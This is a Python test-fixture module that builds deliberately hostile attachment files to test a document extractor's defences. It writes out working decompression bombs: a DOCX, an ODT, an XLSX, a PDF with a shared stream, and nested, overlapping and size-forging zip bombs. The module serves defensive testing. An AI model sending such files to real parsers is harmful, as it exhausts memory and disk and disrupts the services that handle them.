"""Hostile attachment files, built small: each one is what a broken or malicious site could serve.

The sizes follow a security review of the extractor (an 886 KB DOCX holding
290 MB of XML; a 405-byte ODT asking for 1.5 billion spaces; a 1.6 KB XLSX
declaring every cell of a sheet; a 211 KB PDF whose 200 pages share one 74 MB
content stream), plus the classic zip bombs.
"""

from __future__ import annotations

import functools
import io
import struct
import zipfile
import zlib

_CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    "{overrides}</Types>"
)
_W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


@functools.cache
def docx_bomb(xml_bytes: int = 290_000_000) -> bytes:
    """A DOCX whose document.xml inflates to ``xml_bytes`` of paragraphs (about 3,000 times its size)."""
    out = io.BytesIO()
    para = b"<w:p><w:r><w:t>Refused under section 12 of the Act.</w:t></w:r></w:p>"
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as zf:
        zf.writestr(
            "[Content_Types].xml",
            _CONTENT_TYPES.format(
                overrides='<Override PartName="/word/document.xml" ContentType="application/'
                'vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>'
            ),
        )
        zf.writestr(
            "_rels/.rels",
            '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
            'Target="word/document.xml"/></Relationships>',
        )
        head = f'<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="{_W}"><w:body>'.encode()
        tail = b"</w:body></w:document>"
        block = para * (1_000_000 // len(para))
        with zf.open("word/document.xml", "w", force_zip64=True) as fh:
            fh.write(head)
            written = len(head) + len(tail)
            while written + len(block) <= xml_bytes:
                fh.write(block)
                written += len(block)
            fh.write(tail)
    return out.getvalue()


def odt_space_bomb(count: int = 1_500_000_000) -> bytes:
    """A few hundred bytes of ODT asking for ``count`` spaces in one ``<text:s>``."""
    content = (
        '<?xml version="1.0"?><office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
        'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"><office:body><office:text>'
        f'<text:p>Refused under section 43<text:s text:c="{count}"/>(2).</text:p>'
        "</office:text></office:body></office:document-content>"
    )
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("mimetype", "application/vnd.oasis.opendocument.text")
        zf.writestr("content.xml", content)
    return out.getvalue()


def xlsx_dimension_bomb(ref: str = "A1:XFD1048576", far_cell: str | None = None) -> bytes:
    """A valid one-cell workbook whose sheet declares the dimension ``ref`` (all 17 billion cells).

    With ``far_cell`` (e.g. ``XFD1048576``) a second cell sits there, so the blank
    rows and columns before it are real padding, not just a claim.
    """
    far = ""
    if far_cell:
        row = "".join(ch for ch in far_cell if ch.isdigit())
        far = f'<row r="{row}"><c r="{far_cell}" t="inlineStr"><is><t>end</t></is></c></row>'
    ns = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    rel = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    parts = {
        "[Content_Types].xml": _CONTENT_TYPES.format(
            overrides='<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
            '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
        ),
        "_rels/.rels": '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId1" Type="{rel}/officeDocument" Target="xl/workbook.xml"/></Relationships>',
        "xl/workbook.xml": f'<?xml version="1.0"?><workbook xmlns="{ns}" xmlns:r="{rel}"><sheets>'
        '<sheet name="Refusals" sheetId="1" r:id="rId1"/></sheets></workbook>',
        "xl/_rels/workbook.xml.rels": '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId1" Type="{rel}/worksheet" Target="worksheets/sheet1.xml"/></Relationships>',
        "xl/worksheets/sheet1.xml": f'<?xml version="1.0"?><worksheet xmlns="{ns}"><dimension ref="{ref}"/><sheetData>'
        '<row r="1"><c r="A1" t="inlineStr"><is><t>Refused under section 40(2)</t></is></c></row>'
        f"{far}</sheetData></worksheet>",
    }
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, text in parts.items():
            zf.writestr(name, text)
    return out.getvalue()


@functools.cache
def pdf_shared_stream_bomb(pages: int = 200, stream_bytes: int = 74_000_000) -> bytes:
    """A PDF whose ``pages`` pages all draw one Flate content stream of ``stream_bytes`` text operators."""
    op = b"BT /F1 1 Tf 0 0 Td (a) Tj ET\n"
    packed = zlib.compressobj(9)
    chunk = op * (1_000_000 // len(op))
    body = bytearray()
    left = stream_bytes
    while left > 0:
        piece = chunk[:left]
        body += packed.compress(piece)
        left -= len(piece)
    body += packed.flush()
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [" + b" ".join(b"%d 0 R" % (5 + i) for i in range(pages)) + b"] /Count %d >>" % pages,
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(body) + bytes(body) + b"\nendstream",
    ]
    objects += [
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 3 0 R >> >> /Contents 4 0 R >>"
    ] * pages
    return _pdf(objects)


def _pdf(objects: list[bytes]) -> bytes:
    out = bytearray(b"%PDF-1.4\n")
    offsets = []
    for number, obj in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + obj + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for offset in offsets:
        out += b"%010d 00000 n \n" % offset
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return bytes(out)


def zip_of(members: dict[str, bytes], level: int = 9) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as zf:
        for name, data in members.items():
            zf.writestr(name, data)
    return out.getvalue()


def ratio_zip_bomb(size: int = 100_000_000) -> bytes:
    """One member of ``size`` zero bytes: about 1,000 times smaller packed."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as zf:
        with zf.open("disclosure.txt", "w", force_zip64=True) as fh:
            block = b"\0" * (1 << 20)
            for _ in range(size // len(block)):
                fh.write(block)
    return out.getvalue()


def nested_zip_bomb(depth: int = 6, fan: int = 10, leaf: int = 2_000_000) -> bytes:
    """42.zip in miniature: ``fan`` copies of the level below, ``depth`` levels deep, text at the bottom."""
    data = zip_of({"letter.txt": b"Refused under section 12. " * (leaf // 26)})
    for level in range(depth):
        data = zip_of({f"part{level}-{i}.zip": data for i in range(fan)})
    return data


def overlapping_zip_bomb(members: int = 200, size: int = 900_000) -> bytes:
    """A "non-recursive" zip bomb: every central-directory entry points at the same compressed data."""
    raw = b"section 12 " * (size // 11)
    packed = zlib.compress(raw, 9)[2:-4]  # raw deflate
    crc = zlib.crc32(raw)
    name = b"letter.txt"
    local = struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0, crc, len(packed), len(raw), len(name), 0) + name
    out = bytearray(local + packed)
    central = bytearray()
    for i in range(members):
        entry = b"copy%04d.txt" % i
        central += struct.pack(
            "<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0, 0, crc, len(packed), len(raw), len(entry), 0, 0, 0, 0, 0, 0
        ) + entry
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, members, members, len(central), len(out), 0)
    return bytes(out + central + end)


def lying_sizes_zip(real: int = 50_000_000, claimed: int = 10_000, name: str = "letter.txt", data: bytes | None = None) -> bytes:
    """A member that declares ``claimed`` bytes (with the CRC-32 of that much) but inflates to ``real``.

    ``data`` is an existing zip whose member ``name`` is to lie; by default a
    one-member zip of ``real`` bytes of text.
    """
    if data is None:
        data = zip_of({name: b"section 40(2) " * (real // 14)})
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        info = zf.getinfo(name)
        true_size = info.file_size
        with zf.open(name) as fh:
            head = fh.read(claimed)
    out = bytearray(data)
    forged = struct.pack("<I", zlib.crc32(head))
    for offset, sizes_at, crc_at in ((info.header_offset, 22, 14), (_central_offset(data, name), 24, 16)):
        out[offset + crc_at : offset + crc_at + 4] = forged
        out[offset + sizes_at : offset + sizes_at + 4] = struct.pack("<I", claimed)
    assert true_size > claimed
    return bytes(out)


def _central_offset(data: bytes, name: str) -> int:
    """Where the central-directory entry of ``name`` starts."""
    key = name.encode()
    at = data.rfind(b"PK\x01\x02")
    while at != -1:
        (name_len,) = struct.unpack("<H", data[at + 28 : at + 30])
        if data[at + 46 : at + 46 + name_len] == key:
            return at
        at = data.rfind(b"PK\x01\x02", 0, at)
    raise KeyError(name)


def xlsx_lying_shared_strings(real: int = 40_000_000) -> bytes:
    """A workbook whose sharedStrings part declares 2 KB and inflates to ``real`` bytes (CRC forged)."""
    ns = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    book = io.BytesIO(xlsx_dimension_bomb())
    strings = (f'<?xml version="1.0"?><sst xmlns="{ns}">' + "<si><t>section 12</t></si>" * (real // 26) + "</sst>").encode()
    out = io.BytesIO()
    with zipfile.ZipFile(book) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for item in src.infolist():
            dst.writestr(item.filename, src.read(item.filename))
        dst.writestr("xl/sharedStrings.xml", strings)
    return lying_sizes_zip(claimed=2_000, name="xl/sharedStrings.xml", data=out.getvalue())
